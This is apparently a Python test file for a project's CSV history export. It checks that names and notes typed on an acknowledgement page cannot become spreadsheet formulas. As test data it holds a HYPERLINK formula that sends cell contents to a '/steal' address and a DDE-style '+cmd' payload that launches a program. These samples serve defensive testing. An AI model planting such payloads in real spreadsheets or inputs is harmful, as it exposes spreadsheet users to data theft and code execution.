"""The history CSV never hands a spreadsheet a formula (OWASP CSV injection).

A name typed on an acknowledgement page lands in ``events.csv``; a cell that would start
with ``= + - @``, a tab or a carriage return is prefixed with ``'`` so it reads as text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from risingtide.api.history import csv_cell
from tests.adapters.desk import bearer, running_desk
from tests.adapters.test_ack_links import confirm

FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click")'


async def test_a_formula_typed_on_an_ack_page_is_text_in_the_csv(tmp_path: Path) -> None:
    """The typed name and note come back from events.csv with a leading quote, not as formulas."""
    async with running_desk(tmp_path) as desk:
        await desk.raise_line()
        link = desk.rt.ack_link("revenues")
        assert link is not None
        done = await confirm(desk, link, FORMULA, "+cmd|' /C calc'!A0")
        assert done.status_code == 200, done.text
        exported = await desk.http.get("/api/v1/events.csv", headers=bearer("vera"))
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    acks = [r for r in rows if r["kind"] == "acknowledged"]
    assert len(acks) == 1
    assert FORMULA in acks[0]["by"]
    assert "+cmd|' /C calc'!A0" in acks[0]["reason"]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_every_formula_start_is_neutralised_and_other_cells_are_kept() -> None:
    """Each OWASP formula start gets a quote; numbers and ordinary text are unchanged."""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("Priya Shah") == "Priya Shah"
    assert csv_cell(2) == 2
    assert csv_cell("") == ""
